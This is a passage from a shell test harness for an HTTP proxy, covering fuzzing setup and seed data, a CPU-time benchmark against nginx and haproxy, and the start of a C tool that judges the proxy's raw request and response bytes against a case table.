~cGET http://h.test/ HTTP/1.1\r\nHost: h.test\r\nProxy-Authorization: Basic YWxpY2U6eA==\r\n\r\n~cGET http://h.test/ HTTP/1.1\r\nHost: h.test\r\nProxy-{bob}\r\n{ok}
~c\005\001\002~o\001\003bob\006secret~c\005\001\000\001\012\002\000\001\001\273~chello~e
~cOPTIONS / HTTP/1.1\r\nHost: h\r\nOrigin: http://x\r\nAccess-Control-Request-Method: PUT\r\n\r\n~cGET / HTTP/1.1\r\nHost: h\r\n{bob}Origin: http://x\r\n\r\n~4{ok}~5{ok}
~a~cGET http://h.test/ HTTP/1.1\r\nHost: h.test\r\nProxy-{bob}\r\n~n0~cGET http://slow.test/ HTTP/1.1\r\nHost: slow.test\r\nProxy-{bob}\r\n~n0~cGET http://h.test/ HTTP/1.1\r\nHost: h.test\r\nProxy-{bob}\r\n~2~x~a~.~w6~w5{ok}
{get}~n0{get}~n0~q{ok}~5{ok}~w4~1{get}
{get}~n0~n0~n0~CGET /a HTTP/1.1\r\nHost: h\r\n\r\n~Q1{ok}~1{get}~5{ok}{get}~w8
~n0~n0~n0~n0~n0~n0~0{get}~1{get}~2{get}~3{get}~w4~cPUT /echo HTTP/1.1\r\nHost: h\r\n{bob}Content-Length: 3\r\n\r\nabc
END
		;;
	htpasswd) printf 'a:$apr1$salt$hash\nb:$5$rounds=1000$salt$hash\n# c\n\nd:$6$salt$hash\n' >"$2/lines" ;;
	esac
}

fuzz_words() {  # what libFuzzer is to try where octets alone would seldom make it
	for word in '~c' '~s' '~n0' '~n1' '~z' '~k' '~x' '~d2' '~w5' '~y' '~q' '~g' '~b' '~a' '~m' '~l' '~h' '~e' '~.' '~C' '~S' '~0' '~1' '~4' '~5' GET HEAD POST \
		OPTIONS CONNECT ' HTTP/1.1' ' HTTP/1.0' 'HTTP/1.1 200 OK' 'HTTP/1.1 100 Continue' 'HTTP/1.1 101 S' 'HTTP/1.1 206 P' \
		'HTTP/1.1 304 N' 'HTTP/1.1 502 B' 'Host: h' 'Content-Length: 5' 'Transfer-Encoding: chunked' 'Connection: close' \
		'Connection: Upgrade' 'Upgrade: x' 'Expect: 100-continue' 'Cache-Control: max-age=60' 'Cache-Control: no-cache' \
		'Cache-Control: stale-while-revalidate=60' 'Cache-Control: only-if-cached' 'ETag: "a"' 'If-None-Match: "a"' 'If-Range: "a"' \
		'Range: bytes=1-' 'Content-Range: bytes 1-4/5' 'Vary: X' 'X: y' 'Max-Forwards: 1' 'Authorization: Basic Ym9iOnNlY3JldA==' \
		'Proxy-Authorization: Basic Ym9iOnNlY3JldA==' 'Origin: http://x' 'Access-Control-Request-Method: PUT' \
		'Content-Type: text/event-stream' 'Content-Type: application/json' 'Location: /b' 'Set-Cookie: a=b' 'Trailer: X'; do
		printf '"%s"\n' "$(printf '%s' "$word" | sed 's/"/\\"/g')"
		case $word in *:*) printf '"%s\\x0d\\x0a"\n' "$(printf '%s' "$word" | sed 's/"/\\"/g')" ;; esac
	done
	printf '"\\x0d\\x0a"\n"\\x0d\\x0a\\x0d\\x0a"\n"0\\x0d\\x0a\\x0d\\x0a"\n"5\\x0d\\x0ahello\\x0d\\x0a"\n'
}

fuzz() {  # for so many seconds in all, all targets or those named
	seconds=${1:-60}
	[ $# -eq 0 ] || shift
	clang=${CLANG:-clang}
	command -v "$clang" >/dev/null || { echo 'fuzz: no clang here'; exit 1; }
	passed=0 failed=0
	table='' libs=''
	if "$clang" -E -include bearssl.h -x c /dev/null >/dev/null 2>&1; then
		fuzz_targets="$fuzz_targets certs hello shake" libs='-DTLS=1 -l:libbearssl.a'
	fi
	[ $# -eq 0 ] || fuzz_targets=$*
	rounds=0
	for target in $fuzz_targets; do rounds=$((rounds + 1)); done
	each=$((seconds / rounds))
	[ $each -gt 0 ] || each=1
	for target in $fuzz_targets; do table="$table{ \"$target\", fuzz_$target },"; done
	{ fuzz_common; fuzz_connections; fuzz_bodies; } >"$tmp/fuzz.c"
	"$clang" -std=c11 -g -O1 -w -I"$tree" -D "FUZZ_TARGETS=$table" -fsanitize=fuzzer,address,undefined \
		-fno-sanitize-recover=all -o "$tmp/fuzz" "$tmp/fuzz.c" $libs || exit 1
	fuzz_words >"$tmp/words"
	for target in $fuzz_targets; do
		most=4096
		case $target in connections | guests) most=1000 ;; esac    # longer ones are hundreds of requests
		mkdir -p "$tmp/$target" "$tmp/$target.new"
		fuzz_seeds "$target" "$tmp/$target"
		if FUZZ=$target TMPDIR=$tmp "$tmp/fuzz" -max_total_time=$each -timeout=5 -max_len=$most -dict="$tmp/words" -close_fd_mask=1 \
			-artifact_prefix="$tree/crash-$target-" "$tmp/$target.new" "$tmp/$target" >"$tmp/$target.log" 2>&1 </dev/null; then
			passed=$((passed + 1))
			echo "ok - fuzz $target, $(sed -n 's/^Done \([0-9]*\) runs.*/\1/p' "$tmp/$target.log") runs"
		else
			failed=$((failed + 1))
			echo "not ok - fuzz $target"
			grep -A 40 "ERROR:" "$tmp/$target.log" | sed 's/^/#   /'
		fi
	done
	echo "# fuzz: $passed targets without a finding, $failed with one"
	[ $failed = 0 ]
}

# ==== 5. bench ==============================================================================

# CPU time per request of the whole process tree, in interleaved rounds; what counts is the ratio.
subject_proxy() {
	[ "${3-}" != tls ] || exec "$PROXY" -q -l "https://127.0.0.1:$1" -c "$tmp/both.pem" -r "http://127.0.0.1:$2"
	exec "$PROXY" -q -l "$1" -r "http://127.0.0.1:$2"
}
subject_forward() { exec "$PROXY" -q -l "$1"; }
subject_cache() {
	rm -rf "$tmp/cache"
	exec "$PROXY" -q -l "$1" -r "http://127.0.0.1:$2" -C "$tmp/cache"
}
subject_nginx() {
	mkdir -p "$tmp/nginx"
	cached='' ssl=''
	case ${3-} in tls) ssl=ssl ;; ?*) cached=yes ;; esac
	cat >"$tmp/nginx.conf" <<-END
	$([ "$(id -u)" != 0 ] || echo 'user root;')
	daemon off; master_process off; worker_processes 1; pid $tmp/nginx.pid; error_log /dev/null;
	events { worker_connections 1024; }
	http {
	    ${ssl:+ssl_protocols TLSv1.2; ssl_session_cache shared:s:10m; ssl_session_tickets off; ssl_certificate $tmp/both.pem; ssl_certificate_key $tmp/both.pem;}
	    ${cached:+proxy_cache_path $tmp/nginx/c levels=1:2 keys_zone=c:10m max_size=1g use_temp_path=off; proxy_cache c;}
	    access_log off; keepalive_requests 100000000; client_max_body_size 0; proxy_request_buffering off;
	    client_body_temp_path $tmp/nginx/b; proxy_temp_path $tmp/nginx/p; fastcgi_temp_path $tmp/nginx/f;
	    uwsgi_temp_path $tmp/nginx/u; scgi_temp_path $tmp/nginx/s;
	    upstream origin { server 127.0.0.1:$2; keepalive 256; keepalive_requests 100000000; }
	    server { listen 127.0.0.1:$1 $ssl; location / { proxy_pass http://origin; proxy_http_version 1.1;
	        proxy_set_header Connection ""; proxy_buffers 8 16k; proxy_buffer_size 16k; } }
	}
	END
	exec nginx -p "$tmp/nginx" -c "$tmp/nginx.conf"
}
subject_haproxy() {
	cat >"$tmp/haproxy.cfg" <<-END
	global
	    nbthread 1
	    maxconn 2000
	$([ "${3-}" != cache ] || printf 'cache c\n    total-max-size 64\n    max-object-size 2000000\n    max-age 3600\n')
	defaults
	    mode $([ "${3-}" = tcp ] && echo tcp || echo http)
	    timeout connect 5s
	    timeout client 60s
	    timeout server 60s
	    $([ "${3-}" != tcp ] || echo '#') http-reuse always
	listen l
	    $([ "${3-}" = cache ] || echo '#') http-request cache-use c
	    $([ "${3-}" = cache ] || echo '#') http-response cache-store c
	    bind 127.0.0.1:$1
	    server s 127.0.0.1:$2
	END
	exec haproxy -db -f "$tmp/haproxy.cfg"
}

bench_up() { "$peer" talk "$1" 2>/dev/null; }
bench_greedy() {  # how long a quiet client waits, without and beside 5,000 slow and greedy ones
	round=0
	while [ $round -lt "$rounds" ]; do
		listen=$("$peer" port)
		subject_proxy "$listen" "$origin" >/dev/null 2>"$tmp/subject.err" & subject=$!
		wait_for bench_up "$listen" || return 1
		[ -z "$pinned" ] || for p in $(tree $subject); do taskset -cp 0 "$p" >/dev/null; done
		for crowd in 0 "${BENCH_GREEDY:-5000}"; do
			[ "$crowd" = 0 ] || helper greedy "$listen" "$crowd"
			echo "$crowd $("$peer" quiet "$listen" "${BENCH_QUIET:-2000}" 'GET /1k HTTP/1.1\r\nHost: h\r\n\r\n')" >>"$tmp/quiet"
		done
		kill "$helper" $subject
		wait "$helper" $subject 2>/dev/null
		helpers=${helpers% "$helper"}
		round=$((round + 1))
	done
	for column in 2 3; do
		for crowd in 0 "${BENCH_GREEDY:-5000}"; do
			grep "^$crowd " "$tmp/quiet" | cut -d' ' -f$column | sort -n | sed -n "$(((rounds + 1) / 2))p"
		done
	done | tr '\n' ' ' | awk -v n="$said" '{ printf "%-10s  p50 %d p99 %d us  beside %d: p50 %d p99 %d us  ratio %.2f %.2f\n", "greedy", $1, $3, n, $2, $4, $2 / $1, $4 / $3 }'
}
bench_run() {  # WORK SUBJECT: microseconds of CPU per request, or ms per MiB for the tunnel
	listen=$("$peer" port)
	mode=''
	case $1 in tls | full | resumed) mode=tls target=$origin ;; tunnel) mode=tcp target=$sink ;; hit*) mode=cache target=$kept ;; miss) target=$kept ;; *) target=$origin ;; esac
	subject_"$2" "$listen" "$target" $mode >/dev/null 2>"$tmp/subject.err" &
	subject=$!
	wait_for bench_up "$listen" || { echo "bench: $2 does not start: $(cat "$tmp/subject.err")" >&2; kill $subject; return 1; }
	[ -z "$pinned" ] || for p in $(tree $subject); do taskset -cp 0 "$p" >/dev/null; done
	path=/1k rest='' body='' conns=64 count=$requests
	case $1 in
	closed) rest='Connection: close\r\n' count=$((requests / 4)) ;;
	post) rest='Content-Length: 65536\r\n' body=65536 path=/post count=$((requests / 4)) ;;
	64k) path=/64k count=$((requests / 4)) ;;
	hit64k) path=/64k ;;
	miss) path='/1k?########' ;;
	1m) path=/1m conns=16 count=$((requests / 40)) ;;
	esac
	method=GET
	[ -z "$body" ] || method=POST
	case $2 in forward) prefix=http://127.0.0.1:$origin ;; *) prefix='' ;; esac
	request="$method $prefix$path HTTP/1.1\r\nHost: 127.0.0.1:$origin\r\n$rest\r\n"
	case $1 in tls | full | resumed | tunnel) ;; *) "$peer" load "$listen" $conns $((count / 10)) "$request" $body >"$tmp/warm" ;; esac
	before=$(ticks $subject)
	if [ "$1" = tls ]; then
		count=$((requests / 100))
		curl -q -s -k "https://127.0.0.1:$listen/1m?[1-$count]" >/dev/null
	elif [ "$mode" = tls ]; then
		reuse=-new
		[ "$1" = full ] || reuse=-reuse
		count=$(openssl s_time -connect "127.0.0.1:$listen" $reuse -tls1_2 -time 3 2>/dev/null | sed -n 's/^\([0-9]*\) connections in .* real .*/\1/p' | tail -n 1)
	elif [ "$1" = tunnel ]; then
		count=$((requests / 50))
		hello='send:'
		[ "$2" = haproxy ] || hello="send:CONNECT 127.0.0.1:$sink HTTP/1.1\r\nHost: h\r\n\r\n"
		"$peer" talk "$listen" "$hello" "pour:$((count * 1048576))" shut rest >"$tmp/tunnelled"
	else
		"$peer" load "$listen" $conns $count "$request" $body >"$tmp/loaded"
		[ "$(cat "$tmp/loaded")" = "200:$count broken:0" ] || echo "bench: $2, $1: $(cat "$tmp/loaded")" >&2
	fi
	used=$(($(ticks $subject) - before))
	kill $subject
	wait $subject 2>/dev/null
	awk -v t="$used" -v n="$count" 'BEGIN { printf "%.2f\n", t * 10000 / n }'
}

bench() {
	PATH=$PATH:/usr/sbin
	requests=${BENCH_REQUESTS:-100000}
	rounds=${BENCH_ROUNDS:-3}
	pinned=''
	if command -v taskset >/dev/null && [ "$(nproc)" -gt 1 ]; then
		pinned=yes
		taskset -cp 1 $$ >/dev/null
	fi
	cd "$tmp" || exit 1
	for size in 1k:1024 64k:65536 1m:1048576; do head -c ${size#*:} /dev/zero >${size%:*}; done
	origin=$("$peer" port)
	kept=$("$peer" port)
	"$PROXY" -q -l "$origin" -r /1k=file:1k -r /64k=file:64k -r /1m=file:1m -r /post=200:ok >/dev/null &
	helpers="$!"
	"$PROXY" -q -l "$kept" -r /1k=file:1k -r /64k=file:64k -R 'Cache-Control: max-age=100000' >/dev/null &
	helpers="$helpers $!"
	m=0
	helper listen sunk sink:1000000000000
	sink=$said
	wait_for bench_up "$origin"
	wait_for bench_up "$kept"
	trap 'kill $helpers; rm -rf "$tmp"' EXIT
	works='keepalive closed post 64k 1m hit hit64k miss forward tunnel greedy'
	if "$PROXY" -V | grep -q BearSSL && command -v openssl >/dev/null; then
		works="$works tls full resumed"
		openssl req -x509 -nodes -days 9 -subj /CN=localhost -newkey ec -pkeyopt ec_paramgen_curve:P-256 -keyout "$tmp/key.pem" -out "$tmp/cert.pem" 2>/dev/null
		cat "$tmp/cert.pem" "$tmp/key.pem" >"$tmp/both.pem"
		chmod 600 "$tmp/both.pem"
	fi
	peers=''
	for name in nginx haproxy; do command -v $name >/dev/null && peers="$peers $name"; done
	echo "CPU time of the whole process tree; medians of $rounds rounds; the ratio is to the best of:${peers:- none}"
	for work in ${BENCH_WORKS:-$works}; do
		case $work in
		greedy) bench_greedy && continue || return 1 ;;
		forward) subjects=forward ;;
		hit*) subjects="cache$peers" ;;
		miss) subjects='cache proxy' ;;
		tls | full | resumed) subjects="proxy$(echo "$peers" | grep -o ' nginx')" ;;
		tunnel) subjects="forward$(echo "$peers" | grep -o ' haproxy')" ;;
		*) subjects="proxy$peers" ;;
		esac
		round=0
		while [ $round -lt "$rounds" ]; do
			for subject_name in $subjects; do
				bench_run $work "$subject_name" >>"$tmp/$work.$subject_name" || return 1
			done
			round=$((round + 1))
		done
		for subject_name in $subjects; do
			sort -n "$tmp/$work.$subject_name" | awk -v s="$subject_name" '{ v[NR] = $1 } END { print s, v[int((NR + 1) / 2)] }'
		done | awk -v work="$work" '
			NR == 1 { mine = $2 }
			NR > 1 && (!best || $2 < best) { best = $2 }
			{ text = text sprintf("  %s %s", NR > 1 && $1 == "proxy" ? "uncached" : NR == 1 ? "proxy" : $1, $2) }
			END { printf "%-10s%s%s%s\n", work, text, work == "tunnel" ? " us/MiB" : " us/request", best ? sprintf("  ratio %.2f", mine / best) : "" }'
	done
}

# The judge of octets and its table; see "raw" above.
rawcase_c() { cat <<'RAWCASE_C'
/* rawcase - judge a proxy by its octets: what its client gets and what its origin receives
 *
 *   rawcase [-nv] [-t MS] [-p whole|split] PROXY reverse|forward TABLE [WORD]
 *
 * -n leaves out what only our proxy adds (Via, Date, X-Forwarded-*); -v prints both sides' octets also when
 * a case passes; -t is the longest wait (3000); -p one pass only; WORD runs only cases with it in their name.
 * Each case runs twice: octets sent at once, then one at a time, on both sides. The table:
 *
 *   :group MODE [FLAG...]    start the proxy for the cases below; MODE reverse, forward or both
 *   :let NAME BYTES          $NAME stands for BYTES; built in: $HOST (authority), $T (what precedes the path in a
 *                            target), $ORIGIN, $SELF (the proxy), $DEAD (host:port where nobody listens), $VIA (its name)
 *   case NAME                a case; below it, in order, what the client does and what is to be seen:
 *   > BYTES                  client sends; \r \n \t \0 \\ \xHH, \{N:BYTES} is BYTES N times
 *   shut | gone              client half-closes | closes
 *   = STATUS[|STATUS] [BYTES]  client gets this answer (content BYTES, "" is empty); `none` is an end without one;
 *                            =head, =connect: the answer to such a request; =1xx: interim answers may come before;
 *                            =cut: broken off visibly with a part of BYTES, or 502; =raw: BYTES as they are
 *   @ REQUEST-LINE | *       origin gets a whole request; @count N[-M] how many (else as many as answers)
 *   < BYTES                  origin answers the next request once it is whole, <h once its head is there; then of the
 *                            same answer: <+ a little later, <= once the request is whole, <close, <rst
 *                            (else 200 with content "ok"; after a 101 it echoes, and says BYE at the end)
 *   has NAME: VALUE | lacks NAME... | content BYTES | trailer NAME: VALUE | without BYTES
 *                            of the last = or @; VALUE may end in *
 *   end closed|open|any|skip how the client connection is afterwards (open: a further request is answered)
 *   upstream closed|kept     the origin's connection is closed unused | takes the further request
 *   fresh                    before the case the origin closes the connections it has
 *   once                     the case does not run split
 *   ok NAME :: BYTES         short for > BYTES, = 200 ok
 *   400 NAME :: BYTES        short for > BYTES, = 400, @count 0, end closed (any status; 400~: end any)
 *   bad NAME :: BYTES        short for a GET, < BYTES, = 502, upstream closed, end any */
#define _POSIX_C_SOURCE 200809L
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/select.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

enum { CONNS = 64, SEEN = 64, LETS = 64, REQUEST = 0, RESPONSE = 1, BODILESS = 2 };
struct buf { char *p; size_t n, cap; };
struct line { char op[12]; char *text; };
struct let { char name[12], *text; };
struct tcase { char *name, *group; int first, n; };
struct msg {                        /* a parsed message; offsets into p */
    const char *p; size_t start, head, trailer, len;
    int status, by_close; struct buf content; const char *why;
};
struct conn {                       /* one connection at the origin */
    int fd, eof, echo, bye, bad, probed, touched, step, cur; int64_t due; size_t done, sent; struct buf in, out;
};
struct seen { int conn, whole; size_t at, len; };

static struct line *lines; static int nlines;
static struct tcase *cases; static int ncases;
static struct let lets[LETS]; static int nlets;
static struct conn conns[CONNS]; static int nconns;
static struct seen seen[SEEN]; static int nseen, probe_conn;
static struct { int fd, eof, reset; size_t used, sent; struct buf in, out; } client;
static struct tcase *now_case;
static const char *mode, *proxy; static int plain, verbose, split, bound = 3000, listener, failures, total;
static pid_t pid; static int proxy_port; static char why[600], via[32];

static int is(const char *a, const char *b) { return !strcmp(a, b); }
static void die(const char *what) { fprintf(stderr, "rawcase: %s: %s\n", what, strerror(errno)); exit(2); }
static int64_t now(void)
{
    struct timespec t; clock_gettime(CLOCK_MONOTONIC, &t);
    return (int64_t)t.tv_sec * 1000 + t.tv_nsec / 1000000;
}
static void add(struct buf *b, const char *p, size_t n)
{
    if (b->n + n + 1 > b->cap && !(b->p = realloc(b->p, b->cap = 2 * (b->n + n) + 256))) die("memory");
    if (n) memcpy(b->p + b->n, p, n);
    b->p[b->n += n] = 0;
}
static void fail(const char *fmt, ...)          /* the first reason of a case is kept */
{
    va_list ap; if (why[0]) return;
    va_start(ap, fmt); vsnprintf(why, sizeof why, fmt, ap); va_end(ap);
}
static void show(const char *who, const char *p, size_t n)      /* escaped, the middle of long ones left out */
{
    printf("#   %s: ", who);
    for (size_t i = 0; i < n; i++) {
        unsigned char c = (unsigned char)p[i];
        if (i == 900 && n > 1300) { printf(" [%zu octets] ", n - 1200); i = n - 300; }
        if (c == '\r') printf("\\r"); else if (c == '\n') printf("\\n");
        else if (c < 32 || c > 126 || c == '\\') printf("\\x%02x", c); else putchar(c);
    }
    putchar('\n');
}
static const char *find(const char *p, size_t n, const char *s, size_t k)
{
    for (; n >= k; p++, n--) if (*p == *s && !memcmp(p, s, k)) return p;
    return NULL;
}

/* ---- the table ---- */
static int equal(const struct buf *b, const char *p, size_t n) { return b->n == n && !memcmp(b->p, p, n); }
static int hex(int c) { return c >= '0' && c <= '9' ? c - '0' : (c | 32) >= 'a' && (c | 32) <= 'f' ? (c | 32) - 'a' + 10 : -1; }
static void let(const char *name, const char *text)
{
    int i = 0;
    while (i < nlets && strcmp(lets[i].name, name)) i++;
    if (i == LETS) die(":let");
    if (i == nlets) nlets++; else free(lets[i].text);
    snprintf(lets[i].name, sizeof lets[i].name, "%s", name); lets[i].text = strdup(text);
}
static void expand(struct buf *b, const char *s, size_t n)
{
    for (size_t i = 0; i < n; i++) {
        if (s[i] == '$') {                                              /* the longest name that fits */
            struct let *best = NULL; size_t k = 0;
            for (int j = 0; j < nlets; j++) {
                size_t l = strlen(lets[j].name);
                if (l > k && l < n - i && !memcmp(s + i + 1, lets[j].name, l)) { best = &lets[j]; k = l; }
            }
            if (best) { expand(b, best->text, strlen(best->text)); i += k; continue; }
        }
        if (s[i] != '\\' || i + 1 == n) { add(b, s + i, 1); continue; }
        char c = s[++i];
        if (c == 'x' && i + 2 < n) { c = (char)(hex(s[i + 1]) * 16 + hex(s[i + 2])); i += 2; }
        else if (c == '{') {
            char *e; unsigned long times = strtoul(s + i + 1, &e, 10);
            const char *z = e; int depth = 1;
            for (; depth && z < s + n; z++) if (*z == '}') depth--; else if (*z == '\\' && z[1] == '{') depth++;
            if (*e != ':' || depth) { errno = EINVAL; die(s); }
            while (times--) expand(b, e + 1, (size_t)(z - e - 2));
            i = (size_t)(z - s) - 1; continue;
        } else c = c == 'r' ? '\r' : c == 'n' ? '\n' : c == 't' ? '\t' : c == '0' ? 0 : c;
        add(b, &c, 1);
    }
}
static void put(const char *op, const char *text)
{
    lines = realloc(lines, (size_t)(nlines + 1) * sizeof *lines);
    snprintf(lines[nlines].op, sizeof lines->op, "%s", op); lines[nlines++].text = strdup(text);
    if (ncases) cases[ncases - 1].n++;
}
static void load(const char *path)
{
    FILE *f = fopen(path, "r"); char *s = NULL, *group = NULL; size_t cap = 0; ssize_t n;
    put("<", "HTTP/1.1 200 OK\\r\\nContent-Length: 2\\r\\n\\r\\nok"); put("<", "HTTP/1.1 200 OK\\r\\nContent-Length: 2\\r\\n\\r\\n");
    if (!f) die(path);
    while ((n = getline(&s, &cap, f)) > 0) {
        char *t = s, *rest, *bytes;
        if (t[n - 1] == '\n') t[--n] = 0;
        t += strspn(t, " ");
        if (!*t || *t == '#') continue;
        rest = t + strcspn(t, " "); if (*rest) *rest++ = 0;
        if (is(t, ":group")) { group = strdup(rest); continue; }
        if (is(t, ":let")) { char *v = rest + strcspn(rest, " "); *v++ = 0; let(rest, v); continue; }
        bytes = strstr(rest, " :: ");
        if (strcmp(t, "case") && strcmp(t, "ok") && strcmp(t, "bad") && (*t < '0' || *t > '9')) { put(t, rest); continue; }
        if (bytes) { *bytes = 0; bytes += 4; }
        cases = realloc(cases, (size_t)(ncases + 1) * sizeof *cases);
        cases[ncases++] = (struct tcase){ strdup(rest), group, nlines, 0 };
        if (is(t, "case")) continue;
        if (!bytes) { errno = EINVAL; die(rest); }
        if (is(t, "bad")) {
            put(">", "GET $T/ HTTP/1.1\\r\\nHost: $HOST\\r\\n\\r\\n"); put("<", bytes);
            put("=", "502"); put("upstream", "closed"); put("end", "any");
        }
        else if (is(t, "ok")) { put(">", bytes); put("=", "200 ok"); }
        else { put(">", bytes); put("=", t); put("@count", "0"); put("end", t[strlen(t) - 1] == '~' ? "any" : "closed"); }
    }
    free(s); fclose(f);
}

/* ---- messages, parsed strictly ---- */
static int token(const char *p, size_t n)
{
    if (!n) return 0;
    for (size_t i = 0; i < n; i++) if (p[i] <= 32 || p[i] > 126 || strchr("\"(),/:;<=>?@[\\]{}", p[i])) return 0;
    return 1;
}
static const char *fields_fault(const char *p, size_t n)         /* p[0..n): lines, each with its CRLF */
{
    while (n) {
        const char *e = find(p, n, "\r\n", 2), *colon = memchr(p, ':', (size_t)(e - p));
        if (!colon || !token(p, (size_t)(colon - p))) return "malformed field line";
        for (const char *q = colon; q < e; q++)
            if ((*q < 32 && *q >= 0 && *q != '\t') || *q == 127) return "control in a field value";
        n -= (size_t)(e + 2 - p); p = e + 2;
    }
    return NULL;
}
/* All values of a field, joined by ", "; returns the number of field lines. */
static int field(const struct msg *m, size_t from, size_t to, const char *name, struct buf *v)
{
    int count = 0; size_t k = strlen(name); v->n = 0; add(v, "", 0);
    for (const char *p = m->p + from, *end = m->p + to, *e; p < end && (e = find(p, (size_t)(end - p), "\r\n", 2)); p = e + 2)
        if ((size_t)(e - p) > k && !strncasecmp(p, name, k) && p[k] == ':') {
            const char *a = p + k + 1, *z = e;
            while (a < z && (*a == ' ' || *a == '\t')) a++;
            while (z > a && (z[-1] == ' ' || z[-1] == '\t')) z--;
            if (count++) add(v, ", ", 2);
            add(v, a, (size_t)(z - a));
        }
    return count;
}
static int head_field(const struct msg *m, const char *name, struct buf *v) { return field(m, m->start, m->head, name, v); }

static int bad(struct msg *m, const char *fault) { m->why = fault; return -1; }

/* 1: whole, len octets; 0: needs more (head is set once the header section is whole); -1: malformed, why says. */
static int parse(struct msg *m, const char *p, size_t n, int kind, int eof)
{
    static struct buf v; const char *e = find(p, n, "\r\n\r\n", 4), *l; int cl, te; size_t i;
    struct buf keep = m->content; *m = (struct msg){ .p = p, .content = keep }; m->content.n = 0; add(&m->content, "", 0);
    if (!e) return 0;
    l = find(p, n, "\r\n", 2); m->start = (size_t)(l + 2 - p); m->head = (size_t)(e + 4 - p);
    for (const char *q = p; q < l; q++) if (*q >= 0 && *q != '\t' && (*q < 32 || *q == 127)) return bad(m, "control in the start line");
    if (l != e && (m->why = fields_fault(l + 2, (size_t)(e - l)))) return -1;
    if (kind == REQUEST) {
        const char *a = memchr(p, ' ', (size_t)(l - p)), *b = a ? memchr(a + 1, ' ', (size_t)(l - a - 1)) : NULL;
        if (!b || b == a + 1 || !token(p, (size_t)(a - p)) || l - b != 9 || memcmp(b, " HTTP/1.1", 9))
            return bad(m, "malformed request line");
    } else {
        m->status = l - p < 13 || memcmp(p, "HTTP/1.1 ", 9) || p[12] != ' ' ? 0 : atoi(p + 9);
        if (m->status < 100 || m->status > 599) return bad(m, "malformed status line");
    }
    te = head_field(m, "Transfer-Encoding", &v);
    if (te && (te > 1 || strcasecmp(v.p, "chunked"))) return bad(m, "Transfer-Encoding other than chunked");
    cl = head_field(m, "Content-Length", &v);
    if (cl && (cl > 1 || !v.n || strspn(v.p, "0123456789") != v.n)) return bad(m, "malformed Content-Length");
    if (cl && te) return bad(m, "both Content-Length and Transfer-Encoding");
    if (kind != REQUEST && (m->status < 200 || m->status == 204) && (cl || te)) return bad(m, "1xx or 204 with framing");
    m->len = m->head;
    if (kind == BODILESS || (kind == RESPONSE && (m->status < 200 || m->status == 204 || m->status == 304))) return 1;
    if (te) {
        for (i = m->head;;) {
            size_t size = 0, k = i;
            if (!(l = find(p + i, n - i, "\r\n", 2))) return 0;
            for (; k < n && hex(p[k]) >= 0 && k - i < 16; k++) size = size * 16 + (size_t)hex(p[k]);
            if (k == i || p + k != l) return bad(m, "malformed chunk head");
            i = k + 2;
            if (!size) break;
            if (n - i < size) { add(&m->content, p + i, n - i); return 0; }
            add(&m->content, p + i, size); i += size;
            if (n - i >= 2 && memcmp(p + i, "\r\n", 2)) return bad(m, "no CRLF after chunk data");
            if (n - i < 2) return 0;
            i += 2;
        }
        m->trailer = i;
        if (n - i >= 2 && !memcmp(p + i, "\r\n", 2)) { m->len = i + 2; return 1; }
        if (!(e = find(p + i, n - i, "\r\n\r\n", 4))) return 0;
        m->len = (size_t)(e + 4 - p);
        return (m->why = fields_fault(p + i, m->len - 2 - i)) ? -1 : 1;
    }
    if (!cl && kind == REQUEST) return 1;
    if (!cl) { m->by_close = 1; add(&m->content, p + m->head, n - m->head); m->len = n; return eof; }
    i = (size_t)strtoull(v.p, NULL, 10);
    add(&m->content, p + m->head, n - m->head < i ? n - m->head : i); m->len = m->head + i;
    return n - m->head >= i;
}

/* ---- sockets: one loop for the client and the origin ---- */
static void prepare(int fd)
{
    fcntl(fd, F_SETFL, O_NONBLOCK); fcntl(fd, F_SETFD, FD_CLOEXEC);
    setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &(int){ 1 }, sizeof(int));
}
static int local(int port, int listening, int *got)
{
    struct sockaddr_in in = { .sin_family = AF_INET, .sin_port = htons((uint16_t)port), .sin_addr = { htonl(INADDR_LOOPBACK) } };
    struct sockaddr *a = (struct sockaddr *)&in; socklen_t l = sizeof in;
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    if (fd == -1) die("socket");
    prepare(fd);
    if (!got) return connect(fd, a, l) == -1 && errno != EINPROGRESS ? (close(fd), -1) : fd;
    if (bind(fd, a, l) == -1 || (listening && listen(fd, 128) == -1) || getsockname(fd, a, &l) == -1) die("bind");
    *got = ntohs(in.sin_port); return fd;
}
static void take(int fd, struct buf *in, int *eof, int *reset)
{
    char b[16384]; ssize_t n;
    while ((n = recv(fd, b, sizeof b, 0)) > 0) add(in, b, (size_t)n);
    if (n == 0) *eof = 1;
    if (n == -1 && errno != EAGAIN && errno != EINTR) *eof = *reset = 1;
}
static int give(int fd, struct buf *out, size_t *sent)        /* -1: the peer is gone */
{
    while (*sent < out->n) {
        size_t k = out->n - *sent; ssize_t n;
        if (split) k = out->n > 4096 && k > 1460 ? 1460 : out->n > 4096 ? k : 1;
        if ((n = send(fd, out->p + *sent, k, MSG_NOSIGNAL)) == -1) { if (errno == EAGAIN) return 0; *sent = out->n; return -1; }
        *sent += (size_t)n; if (split) return 0;
    }
    return 0;
}
static void drop(struct conn *o, int rst)
{
    struct linger l = { 1, 0 };
    if (o->fd == -1) return;
    if (rst) setsockopt(o->fd, SOL_SOCKET, SO_LINGER, &l, sizeof l);
    close(o->fd); o->fd = -1;
}
static void say(struct conn *o, const char *s) { add(&o->out, s, strlen(s)); }
static int answer_line(int k, int head)         /* the script line that begins the answer to request k */
{
    for (int i = now_case->first; i < now_case->first + now_case->n; i++)
        if ((is(lines[i].op, "<") || is(lines[i].op, "<h")) && !k--) return i;
    return head;                        /* none: lines 0 and 1 are the plain answers */
}
static void serve(struct conn *o)       /* whatever the origin can do on this connection now */
{
    static struct msg m; const char *p; size_t n, at; int whole;
    while (o->fd != -1) {
        if (give(o->fd, &o->out, &o->sent) == -1) { drop(o, 0); return; }
        if (o->sent < o->out.n) return;
        p = o->in.p + o->done; n = o->in.n - o->done;
        if (o->echo) {
            if (o->bye) { drop(o, 0); return; }
            add(&o->out, p, n); o->done += n;
            if (o->eof) { say(o, "BYE"); o->bye = 1; }
            if (o->sent == o->out.n) return;
            continue;
        }
        if (o->bad || (o->cur < 0 && !n)) return;
